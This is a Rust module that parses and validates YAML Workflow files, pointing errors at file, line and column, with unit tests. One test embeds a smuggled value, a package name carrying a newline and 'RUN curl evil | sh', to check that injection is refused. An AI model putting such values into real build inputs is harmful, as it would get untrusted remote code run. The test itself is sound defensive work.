//! Reading a Workflow from YAML text, with errors that point at file:line:column.

use miette::{Diagnostic, NamedSource, SourceSpan};

use crate::check::check_workflow;
use crate::Workflow;

/// The deepest nesting of `[`/`{` a Workflow text may have; deeper texts are refused before
/// parsing (a Workflow needs about 6; 100,000 levels took the YAML parser 30 s).
pub const MAX_NESTING: usize = 64;
/// The longest Workflow text (bytes).
pub const MAX_WORKFLOW_BYTES: usize = 4 << 20;
/// The most characters of a line shown in a message.
const SHOWN_LINE_CHARS: usize = 160;

/// A Workflow file that could not be read: where, and what was expected there.
#[derive(Debug, thiserror::Error, Diagnostic)]
#[error("{file}:{line}:{column}: {message}")]
#[diagnostic(code(atlas::workflow::invalid))]
pub struct WorkflowError {
    /// File name as given by the caller.
    pub file: String,
    /// 1-based line.
    pub line: usize,
    /// 1-based column.
    pub column: usize,
    /// What is wrong and what was expected.
    pub message: String,
    #[source_code]
    source_text: NamedSource<String>,
    #[label("here")]
    span: SourceSpan,
}

impl WorkflowError {
    /// The error at byte `offset` of `text`. The source shown is that line alone, cut to
    /// [`SHOWN_LINE_CHARS`] around the place, so a huge line is never echoed whole.
    pub fn at(file: &str, text: &str, offset: usize, message: String) -> Self {
        let mut offset = offset.min(text.len());
        while !text.is_char_boundary(offset) {
            offset -= 1;
        }
        let before = &text[..offset];
        let line = before.matches('\n').count() + 1;
        let column = before.rsplit('\n').next().map_or(0, |l| l.chars().count()) + 1;
        let (shown, at) = excerpt(text, offset);
        WorkflowError {
            file: file.to_string(),
            line,
            column,
            message,
            source_text: NamedSource::new(file, shown),
            span: SourceSpan::from((at, 0)),
        }
    }
}

/// The line holding byte `offset`, cut to at most [`SHOWN_LINE_CHARS`] characters around it,
/// and the offset's place in that excerpt.
fn excerpt(text: &str, offset: usize) -> (String, usize) {
    let start = text[..offset].rfind('\n').map_or(0, |i| i + 1);
    let end = text[offset..].find('\n').map_or(text.len(), |i| offset + i);
    let chars: Vec<(usize, char)> = text[start..end].char_indices().collect();
    let here = chars.partition_point(|(i, _)| start + i < offset);
    let from = here.saturating_sub(SHOWN_LINE_CHARS / 2);
    let to = (from + SHOWN_LINE_CHARS).min(chars.len());
    let shown: String = chars[from..to].iter().map(|(_, c)| *c).collect();
    let at = chars[from..here].iter().map(|(_, c)| c.len_utf8()).sum();
    (shown, at)
}

/// The byte offset where `[`/`{` nesting first goes deeper than [`MAX_NESTING`], if it does.
/// Quoted text and comments are skipped; an approximation that errs towards accepting.
fn too_deep(text: &str) -> Option<usize> {
    let mut depth = 0usize;
    let mut quote: Option<u8> = None;
    let mut comment = false;
    let mut previous = b'\n';
    for (i, b) in text.bytes().enumerate() {
        match (quote, b) {
            (_, b'\n') => {
                comment = false;
                quote = None;
            }
            _ if comment => {}
            (Some(q), _) if b == q => quote = None,
            (Some(_), _) => {}
            (None, b'#') if previous.is_ascii_whitespace() => comment = true,
            (None, b'"' | b'\'') if matches!(previous, b' ' | b'[' | b'{' | b',' | b':') => {
                quote = Some(b)
            }
            (None, b'[' | b'{') => {
                depth += 1;
                if depth > MAX_NESTING {
                    return Some(i);
                }
            }
            (None, b']' | b'}') => depth = depth.saturating_sub(1),
            _ => {}
        }
        previous = b;
    }
    None
}

/// Parses and checks a Workflow. `file` names the text in messages.
pub fn parse_workflow(file: &str, text: &str) -> Result<Workflow, Box<WorkflowError>> {
    if text.len() > MAX_WORKFLOW_BYTES {
        return Err(Box::new(WorkflowError::at(
            file,
            text,
            0,
            format!(
                "the file is {} bytes; a Workflow has at most {MAX_WORKFLOW_BYTES}",
                text.len()
            ),
        )));
    }
    if let Some(offset) = too_deep(text) {
        return Err(Box::new(WorkflowError::at(
            file,
            text,
            offset,
            format!("nested deeper than {MAX_NESTING} levels"),
        )));
    }
    let workflow: Workflow = serde_yaml_ng::from_str(text).map_err(|err| {
        let offset = err.location().map_or(0, |l| l.index());
        Box::new(WorkflowError::at(
            file,
            text,
            offset,
            strip_location(&err.to_string()),
        ))
    })?;
    check_workflow(&workflow).map_err(|v| {
        Box::new(WorkflowError::at(
            file,
            text,
            find_value(text, &v.key, &v.value),
            v.message,
        ))
    })?;
    Ok(workflow)
}

/// serde_yaml puts "at line L column C" into its messages; we print the place in front instead.
fn strip_location(message: &str) -> String {
    match message.rfind(" at line ") {
        Some(i) => message[..i].to_string(),
        None => message.to_string(),
    }
}

/// Byte offset of the last `key: value` line (the last, so a duplicate points at the repeat);
/// when the value is not on its key's line (a list item, a quoted multi-line text), the first
/// place after the key where the value's first line appears; else the key.
fn find_value(text: &str, key: &str, value: &str) -> usize {
    let mut offset = 0;
    let mut exact = None;
    let mut last_key = None;
    for line in text.split_inclusive('\n') {
        let body = line.trim_start().trim_start_matches("- ").trim_start();
        if let Some(rest) = body.strip_prefix(key).and_then(|r| r.strip_prefix(':')) {
            let at = offset + (line.len() - body.len());
            last_key = Some(at);
            let rest = rest.trim().trim_matches(|c| c == '"' || c == '\'');
            if value.is_empty() || rest == value {
                exact = Some(at);
            }
        }
        offset += line.len();
    }
    let from = last_key.unwrap_or(0);
    let first = value.lines().next().unwrap_or("").trim();
    let nearby = (!first.is_empty())
        .then(|| text[from..].find(first).map(|i| from + i))
        .flatten();
    exact.or(nearby).unwrap_or(from)
}

#[cfg(test)]
mod tests {
    use super::*;

    const GOOD: &str = "apiVersion: atlas.dev/v1alpha1\nkind: Workflow\nmetadata:\n  name: demo\nspec:\n  resources:\n    memoryPerNode: 64Gi\n    walltime: 1h30m\n  phases:\n  - name: main\n    run: echo hi\n";

    #[test]
    fn reads_a_valid_workflow() {
        let w = parse_workflow("atlas.yaml", GOOD).unwrap();
        assert_eq!(w.spec.resources.memory_per_node.unwrap().bytes(), 64 << 30);
        assert_eq!(w.spec.resources.walltime.unwrap().as_secs(), 5400);
    }

    #[test]
    fn bad_quantity_points_at_its_line() {
        let text = GOOD.replace("64Gi", "lots");
        let err = parse_workflow("atlas.yaml", &text).unwrap_err();
        assert_eq!(err.line, 7, "{err}");
        assert!(err.message.contains("memoryPerNode"), "{err}");
        assert!(err.message.contains("expected a byte count"), "{err}");
    }

    #[test]
    fn unknown_field_is_named_with_the_expected_ones() {
        let text = GOOD.replace("walltime", "wallclock");
        let err = parse_workflow("atlas.yaml", &text).unwrap_err();
        assert_eq!((err.line, err.file.as_str()), (8, "atlas.yaml"));
        assert!(err.message.contains("unknown field `wallclock`"), "{err}");
    }

    #[test]
    fn wrong_api_version_is_reported() {
        let text = GOOD.replace("atlas.dev/v1alpha1", "batch/v1");
        let err = parse_workflow("w.yaml", &text).unwrap_err();
        assert_eq!(err.line, 1);
        assert!(err.to_string().starts_with("w.yaml:1:"), "{err}");
    }

    #[test]
    fn duplicate_phase_names_point_at_the_second() {
        let text = format!("{GOOD}  - name: main\n    run: echo again\n");
        let err = parse_workflow("w.yaml", &text).unwrap_err();
        assert_eq!(err.line, 12, "{err}");
    }

    #[test]
    fn invalid_name_is_reported() {
        let text = GOOD.replace("name: demo", "name: Demo_1");
        let err = parse_workflow("w.yaml", &text).unwrap_err();
        assert_eq!(err.line, 4, "{err}");
    }

    fn refused(text: &str) -> Box<WorkflowError> {
        parse_workflow("w.yaml", text).expect_err("should be refused")
    }

    #[test]
    fn a_walltime_beyond_the_maximum_is_refused() {
        let err = refused(&GOOD.replace("1h30m", "18446744073709551615s"));
        assert_eq!(err.line, 8, "{err}");
        assert!(err.message.contains("out of range"), "{err}");
        assert!(refused(&GOOD.replace("1h30m", "0s"))
            .message
            .contains("no limit"));
    }

    #[test]
    fn a_line_break_in_a_generated_value_is_refused() {
        let text = format!(
            "{GOOD}  image:\n    pip:\n    - numpy\n    - \"torch\\nRUN curl evil | sh\"\n"
        );
        let err = refused(&text);
        assert!(err.message.starts_with("spec.image.pip[1]"), "{err}");
        assert_eq!(err.line, 15, "{err}");
        let selector = GOOD.replace("memoryPerNode: 64Gi", "gpuType: \"a100\\nevil: x\"");
        assert!(refused(&selector)
            .message
            .contains("spec.resources.gpuType"));
    }

    #[test]
    fn shell_text_keeps_its_line_breaks() {
        let text = GOOD.replace("run: echo hi", "run: |\n      echo one\n      echo two");
        parse_workflow("w.yaml", &text).unwrap();
    }

    #[test]
    fn counts_below_one_are_refused() {
        for key in ["nodes", "tasks", "tasksPerNode", "cpusPerTask"] {
            let err = refused(&GOOD.replace("memoryPerNode: 64Gi", &format!("{key}: 0")));
            assert!(err.message.contains(key), "{err}");
            assert_eq!(err.line, 7, "{err}");
        }
        let gpus = GOOD.replace("memoryPerNode: 64Gi", "gpusPerNode: 0");
        parse_workflow("w.yaml", &gpus).unwrap();
    }

    #[test]
    fn other_rules_the_types_cannot_say() {
        let cases = [
            (
                "  phases:\n  - name: main\n    run: echo hi\n",
                "  phases: []\n",
                "at least one phase",
            ),
            (
                "run: echo hi",
                "run: echo hi\n    patterns: [\"(unclosed\"]",
                "regular expression",
            ),
            (
                "run: echo hi",
                "run: echo hi\n    patterns: [\"(?P<a>x)\"]\n  - name: a/b\n    run: x",
                "a/b",
            ),
            (
                "  phases:",
                "  environment:\n    variables:\n      BAD NAME: x\n  phases:",
                "BAD NAME",
            ),
        ];
        for (from, to, expected) in cases {
            let err = refused(&GOOD.replace(from, to));
            assert!(err.message.contains(expected), "{expected}: {err}");
        }
    }

    #[test]
    fn deep_nesting_is_refused_quickly_and_not_echoed() {
        let deep = format!(
            "{GOOD}  x: {}{}\n",
            "[".repeat(100_000),
            "]".repeat(100_000)
        );
        let started = std::time::Instant::now();
        let err = refused(&deep);
        assert!(err.message.contains("nested deeper"), "{err}");
        assert!(started.elapsed() < std::time::Duration::from_secs(10));
        let shown = format!("{:?}", miette::Report::new(*err));
        assert!(shown.len() < 4000, "{}", shown.len());
    }

    #[test]
    fn garbage_never_panics() {
        for text in ["", ":", "[", "\u{0}", "spec: [1, 2", "apiVersion: 3\n  - x"] {
            assert!(parse_workflow("g.yaml", text).is_err());
        }
    }
}
